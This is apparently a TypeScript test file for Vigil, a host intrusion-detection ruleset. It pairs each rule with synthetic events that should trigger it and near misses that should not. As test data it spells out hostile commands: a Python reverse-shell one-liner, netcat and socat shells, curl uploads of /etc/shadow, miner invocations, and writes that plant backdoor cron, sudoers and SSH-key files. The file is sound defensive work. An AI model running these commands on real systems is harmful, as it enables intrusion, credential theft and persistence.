// Each of Vigil's rules with events that fire it and a near miss that must not: a behaviour
// that differs in the one way the rule's exclusions or scope are about.
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { describe, test } from 'node:test';
import type { vigil } from '@vigil/schema';
import { BUILTIN_RULES_FILE, Engine, Ruleset } from '../src/index.js';

type Event = vigil.v1.IEvent;
type Proc = vigil.v1.IProcess;

const O_RDONLY = 0;
const O_WRONLY = 1;
const O_CREAT = 0o100;
const O_TRUNC = 0o1000;

let clock = 1_763_800_000_000;

function proc(comm: string, argv: string[], extra: Partial<Proc> = {}): Proc {
  return {
    pid: 5000,
    ppid: 4000,
    processUid: `uid-${comm}`,
    comm,
    exe: `/usr/bin/${comm}`,
    argv,
    cwd: '/home/alice',
    uid: 1000,
    user: 'alice',
    ancestors: [{ pid: 4000, comm: 'bash', exe: '/usr/bin/bash', argv: ['-bash'] }],
    ...extra,
  };
}

function base(p: Proc, container?: vigil.v1.IContainer): Event {
  clock += 100;
  return {
    host: 'h1',
    timeNs: clock * 1_000_000,
    process: p,
    ...(container ? { container } : {}),
  };
}

function exec(
  comm: string,
  args: string[] = [],
  extra: Partial<Proc> = {},
  container?: vigil.v1.IContainer,
): Event {
  const argv = [comm, ...args];
  const p = proc(comm, argv, extra);
  return { ...base(p, container), processExec: { filename: p.exe ?? '', argv } };
}

function open(path: string, flags: number, p: Proc = proc('cat', ['cat'])): Event {
  return { ...base(p), fileOpen: { path, flags, result: 3 } };
}

const asRoot = { uid: 0, user: 'root' };
const underDpkg: Partial<Proc> = {
  ancestors: [
    { pid: 3, comm: 'sh', argv: ['/bin/sh', 'postinst'] },
    { pid: 2, comm: 'dpkg', argv: ['dpkg', '--configure'] },
    { pid: 1, comm: 'apt-get', argv: ['apt-get', 'install'] },
  ],
};
const container = { id: 'c'.repeat(64), name: 'web', image: 'nginx:1.27' };

interface Case {
  rule: string;
  fires: Event[];
  nearMiss: Event[];
}

const CASES: Case[] = [
  {
    rule: 'Shell spawned by a network service',
    fires: [
      exec('sh', ['-c', 'id'], { ancestors: [{ comm: 'nginx', argv: ['nginx: worker process'] }] }),
    ],
    nearMiss: [exec('sh', ['-c', 'id'], { ancestors: [{ comm: 'sshd', argv: ['sshd'] }] })],
  },
  {
    rule: 'Executable run from a temporary directory',
    fires: [
      exec('payload', [], { exe: '/tmp/payload' }),
      exec('x', [], { exe: '/dev/shm/x' }),
      exec('miner', [], { exe: '/tmp/.X11-cache/miner' }),
    ],
    nearMiss: [
      exec('tmpwatch', [], { exe: '/usr/sbin/tmpwatch' }),
      exec('x', [], { exe: '/tmpfoo/x' }),
      exec('node', [], { exe: '/tmp/ci/.tools/node/bin/node' }),
    ],
  },
  {
    rule: 'Executable run from deep inside a temporary directory',
    fires: [exec('node', [], { exe: '/tmp/ci/.tools/node/bin/node' })],
    nearMiss: [
      exec('payload', [], { exe: '/tmp/payload' }),
      exec('node', [], { exe: '/usr/bin/node' }),
    ],
  },
  {
    rule: 'Program run from a deleted or memory-only file',
    fires: [
      exec('x', [], { exe: '/memfd:payload (deleted)' }),
      exec('y', [], { exe: '/opt/y (deleted)' }),
    ],
    nearMiss: [exec('y', [], { exe: '/opt/deleted' })],
  },
  {
    rule: 'Interpreter reverse shell one-liner',
    fires: [
      exec('python3', [
        '-c',
        'import socket,os,pty;s=socket.socket();s.connect(("10.0.0.1",4242));os.dup2(s.fileno(),0);pty.spawn("/bin/sh")',
      ]),
    ],
    nearMiss: [exec('python3', ['-c', 'import socket; print(socket.gethostname())'])],
  },
  {
    rule: 'Cron job written',
    fires: [open('/etc/cron.d/backdoor', O_WRONLY | O_CREAT, proc('tee', ['tee'], asRoot))],
    nearMiss: [
      open('/etc/cron.d/backdoor', O_RDONLY, proc('cat', ['cat'], asRoot)),
      open(
        '/etc/cron.daily/apt-compat',
        O_WRONLY | O_CREAT,
        proc('dpkg', ['dpkg'], { ...asRoot, ...underDpkg }),
      ),
    ],
  },
  {
    rule: 'Systemd unit written',
    fires: [
      open('/etc/systemd/system/evil.service', O_WRONLY | O_CREAT, proc('cp', ['cp'], asRoot)),
    ],
    nearMiss: [
      open(
        '/lib/systemd/system/nginx.service',
        O_WRONLY | O_CREAT,
        proc('dpkg', ['dpkg'], underDpkg),
      ),
    ],
  },
  {
    rule: 'Shell profile modified',
    fires: [open('/home/alice/.bashrc', O_WRONLY, proc('sh', ['sh', '-c', 'echo x >> ~/.bashrc']))],
    nearMiss: [open('/home/alice/.bashrc', O_RDONLY, proc('bash', ['bash']))],
  },
  {
    rule: 'SSH authorized keys modified',
    fires: [open('/root/.ssh/authorized_keys', O_WRONLY | O_CREAT, proc('sh', ['sh'], asRoot))],
    nearMiss: [open('/root/.ssh/authorized_keys', O_RDONLY, proc('sshd', ['sshd'], asRoot))],
  },
  {
    rule: 'Dynamic linker preload configured',
    fires: [open('/etc/ld.so.preload', O_WRONLY | O_CREAT | O_TRUNC, proc('sh', ['sh'], asRoot))],
    nearMiss: [open('/etc/ld.so.preload', O_RDONLY, proc('ls', ['ls']))],
  },
  {
    rule: 'Local account created',
    fires: [exec('useradd', ['-m', 'backdoor'], asRoot)],
    nearMiss: [exec('useradd', ['--system', '_apt'], { ...asRoot, ...underDpkg })],
  },
  {
    rule: 'Account database modified directly',
    fires: [open('/etc/passwd', O_WRONLY, proc('sed', ['sed', '-i'], asRoot))],
    nearMiss: [open('/etc/passwd', O_WRONLY, proc('useradd', ['useradd'], asRoot))],
  },
  {
    rule: 'Setuid or setgid bit set',
    fires: [
      {
        ...base(proc('chmod', ['chmod'], asRoot)),
        fileChmod: { path: '/tmp/rootshell', mode: 0o4755, result: 0 },
      },
      exec('chmod', ['u+s', '/tmp/rootshell'], asRoot),
      exec('chmod', ['4755', '/tmp/rootshell'], asRoot),
    ],
    nearMiss: [
      {
        ...base(proc('chmod', ['chmod'], asRoot)),
        fileChmod: { path: '/tmp/x', mode: 0o755, result: 0 },
      },
      exec('chmod', ['755', '/tmp/x']),
      exec('chmod', ['u+x', '/tmp/x']),
    ],
  },
  {
    rule: 'Sudoers modified',
    fires: [open('/etc/sudoers.d/99-backdoor', O_WRONLY | O_CREAT, proc('tee', ['tee'], asRoot))],
    nearMiss: [open('/etc/sudoers.d/README', O_RDONLY, proc('sudo', ['sudo'], asRoot))],
  },
  {
    rule: 'File capabilities set',
    fires: [exec('setcap', ['cap_setuid+ep', '/tmp/python3'], asRoot)],
    nearMiss: [exec('getcap', ['/usr/bin/ping'])],
  },
  {
    rule: 'Shell history tampered',
    fires: [
      open('/home/alice/.bash_history', O_WRONLY | O_TRUNC, proc('sh', ['sh'])),
      { ...base(proc('rm', ['rm'])), fileUnlink: { path: '/home/alice/.bash_history', result: 0 } },
    ],
    nearMiss: [open('/home/alice/.bash_history', O_WRONLY | 0o2000, proc('bash', ['bash']))],
  },
  {
    rule: 'Process deleted its own executable',
    fires: [
      {
        ...base(proc('implant', ['implant'], { exe: '/var/tmp/implant' })),
        fileUnlink: { path: '/var/tmp/implant', result: 0 },
      },
    ],
    nearMiss: [
      {
        ...base(proc('rm', ['rm'], { exe: '/usr/bin/rm' })),
        fileUnlink: { path: '/var/tmp/implant', result: 0 },
      },
    ],
  },
  {
    rule: 'File timestamps changed',
    fires: [
      exec('touch', ['-r', '/bin/ls', '/tmp/implant']),
      exec('touch', ['-d', '2020-01-01', '/tmp/x']),
    ],
    nearMiss: [exec('touch', ['/tmp/x', '/tmp/-d'])],
  },
  {
    rule: 'Log file cleared',
    fires: [
      open('/var/log/auth.log', O_WRONLY | O_TRUNC, proc('sh', ['sh'], asRoot)),
      { ...base(proc('rm', ['rm'], asRoot)), fileUnlink: { path: '/var/log/wtmp', result: 0 } },
    ],
    nearMiss: [
      open('/var/log/syslog', O_WRONLY | O_TRUNC, proc('logrotate', ['logrotate'], asRoot)),
    ],
  },
  {
    rule: 'Shadow file read',
    fires: [open('/etc/shadow', O_RDONLY, proc('cat', ['cat', '/etc/shadow'], asRoot))],
    nearMiss: [
      open('/etc/shadow', O_RDONLY, proc('unix_chkpwd', ['unix_chkpwd'], asRoot)),
      open('/etc/passwd', O_RDONLY, proc('cat', ['cat', '/etc/passwd'])),
    ],
  },
  {
    rule: 'Private key read',
    fires: [open('/home/alice/.ssh/id_ed25519', O_RDONLY, proc('curl', ['curl']))],
    nearMiss: [
      open('/home/alice/.ssh/id_ed25519', O_RDONLY, proc('ssh', ['ssh'])),
      open('/home/alice/.ssh/id_ed25519.pub', O_RDONLY, proc('cat', ['cat'])),
    ],
  },
  {
    rule: 'Cloud credentials read',
    fires: [
      open('/home/alice/.aws/credentials', O_RDONLY, proc('python3', ['python3', 'steal.py'])),
    ],
    nearMiss: [open('/home/alice/.aws/credentials', O_RDONLY, proc('aws', ['aws', 's3', 'ls']))],
  },
  {
    rule: 'Process environment read',
    fires: [open('/proc/812/environ', O_RDONLY, proc('cat', ['cat']))],
    nearMiss: [
      open('/proc/self/environ', O_RDONLY, proc('cat', ['cat'])),
      open('/proc/812/environ', O_RDONLY, proc('ps', ['ps'])),
    ],
  },
  {
    rule: 'Discovery burst',
    fires: ['whoami', 'id', 'uname', 'hostname', 'ifconfig', 'netstat'].map((c) => exec(c)),
    nearMiss: ['uname', 'uname', 'uname', 'uname', 'hostname', 'uname'].map((c) =>
      exec(c, [], { ppid: 4100 }),
    ),
  },
  {
    rule: 'Network scanner run',
    fires: [exec('nmap', ['-sS', '10.0.0.0/24']), exec('nc', ['-zv', '10.0.0.5', '1-1024'])],
    nearMiss: [exec('nc', ['-l', '8080'])],
  },
  {
    rule: 'Shell opened a network connection',
    fires: [
      {
        ...base(proc('bash', ['bash', '-i'])),
        netConnect: {
          family: 1,
          protocol: 1,
          remote: { address: '203.0.113.7', port: 4444 },
          local: { address: '10.0.0.2', port: 50000 },
          result: 0,
        },
      },
    ],
    nearMiss: [
      {
        ...base(proc('bash', ['bash', '-i'])),
        netConnect: {
          family: 1,
          protocol: 1,
          remote: { address: '127.0.0.1', port: 8080 },
          local: { address: '127.0.0.1', port: 50000 },
          result: 0,
        },
      },
      {
        ...base(proc('curl', ['curl'])),
        netConnect: {
          family: 1,
          protocol: 1,
          remote: { address: '203.0.113.7', port: 443 },
          local: { address: '10.0.0.2', port: 50001 },
          result: 0,
        },
      },
    ],
  },
  {
    rule: 'Netcat or socat with command execution',
    fires: [
      exec('nc', ['-e', '/bin/sh', '10.0.0.1', '4444']),
      exec('socat', ['TCP:10.0.0.1:4444', 'EXEC:/bin/bash']),
    ],
    nearMiss: [
      exec('nc', ['10.0.0.1', '4444']),
      exec('socat', ['TCP-LISTEN:80', 'TCP:10.0.0.2:80']),
    ],
  },
  {
    rule: 'File sent out with a network tool',
    fires: [
      exec('curl', ['-T', '/etc/passwd', 'https://x.example']),
      exec('curl', ['-F', 'f=@/etc/shadow', 'https://x.example']),
    ],
    nearMiss: [
      exec('curl', ['-fsSL', 'https://x.example/install.sh']),
      exec('curl', ['-d', 'a=b', 'https://x.example']),
    ],
  },
  {
    rule: 'Crypto miner run',
    fires: [
      exec('xmrig', ['-o', 'pool.example:3333']),
      exec('kworkerd', ['-o', 'stratum+tcp://pool.example:3333']),
    ],
    nearMiss: [exec('xmllint', ['--noout', 'a.xml'])],
  },
  {
    rule: 'Namespace tool run in a container',
    fires: [exec('mount', ['/dev/sda1', '/mnt'], asRoot, container)],
    nearMiss: [exec('mount', ['/dev/sdb1', '/mnt'], asRoot)],
  },
  {
    rule: 'Host namespaces joined through pid 1',
    fires: [exec('nsenter', ['-t', '1', '-m', '-u', '-i', '-n', '-p', 'sh'], asRoot)],
    nearMiss: [exec('nsenter', ['-t', '1234', '-n', 'ip', 'a'], asRoot)],
  },
  {
    rule: 'Container runtime socket opened in a container',
    fires: [
      {
        ...base(proc('curl', ['curl']), container),
        netConnect: { family: 3, remote: { address: '/var/run/docker.sock' }, result: 0 },
      },
    ],
    nearMiss: [
      {
        ...base(proc('docker', ['docker', 'ps'])),
        netConnect: { family: 3, remote: { address: '/var/run/docker.sock' }, result: 0 },
      },
    ],
  },
  {
    rule: 'Kernel module loaded',
    fires: [exec('insmod', ['/tmp/rootkit.ko'], asRoot)],
    nearMiss: [
      exec('modprobe', ['-r', 'floppy'], asRoot),
      exec('modprobe', ['nf_tables'], { ...asRoot, ppid: 2 }),
    ],
  },
];

function builtin() {
  const rs = new Ruleset();
  rs.load(BUILTIN_RULES_FILE, readFileSync(BUILTIN_RULES_FILE, 'utf8'));
  return rs.compile();
}

/** Names of the rules a sequence of events raises (with every rule run on every event). */
function fired(events: Event[], only: string): string[] {
  const result = builtin();
  const engine = new Engine(
    result.rules.filter((r) => r.name === only),
    { ruleMatching: 'all' },
  );
  const names: string[] = [];
  for (const e of events) engine.process(e, (rule) => names.push(rule.name));
  return names;
}

describe("Vigil's ruleset", () => {
  test('loads without problems, and every rule has MITRE tags', () => {
    const result = builtin();
    assert.deepEqual(result.problems, []);
    assert.equal(result.rules.length, result.total);
    for (const rule of result.rules) {
      assert.ok(
        rule.tags.some((t) => /^T\d{4}/.test(t)),
        `${rule.name} has a technique id`,
      );
      assert.ok(
        rule.tags.some((t) => t.startsWith('mitre_')),
        `${rule.name} has a tactic`,
      );
    }
  });

  test('every rule has a case here', () => {
    const names = builtin()
      .rules.map((r) => r.name)
      .sort();
    assert.deepEqual(names, CASES.map((c) => c.rule).sort());
  });

  for (const c of CASES) {
    test(`${c.rule}: fires on its behaviour, not on the near miss`, () => {
      const hits = fired(c.fires, c.rule);
      const expected = c.rule === 'Discovery burst' ? 1 : c.fires.length;
      assert.equal(hits.length, expected, `fires ${expected} time(s)`);
      assert.deepEqual(fired(c.nearMiss, c.rule), [], 'near miss');
    });
  }
});
